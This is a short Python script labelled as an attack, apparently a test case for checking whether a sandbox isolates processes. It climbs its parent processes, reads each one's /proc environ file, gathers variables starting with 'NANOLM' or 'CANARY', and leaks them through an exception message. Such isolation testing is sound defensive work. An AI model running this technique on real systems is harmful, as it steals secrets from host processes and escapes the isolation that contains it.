# /// attack
# tries = "walks up its ancestors and reads the environment of each"
# open = { weak = "/proc of its own, or a user of its own" }
# ///

import os

pid, told = os.getppid(), []
while pid > 1:
    with open(f"/proc/{pid}/environ", "rb") as file:
        told += [item for item in file.read().split(b"\0") if item.startswith((b"NANOLM", b"CANARY"))]
    with open(f"/proc/{pid}/stat") as file:
        pid = int(file.read().rpartition(") ")[2].split()[1])
raise ValueError(str(told))
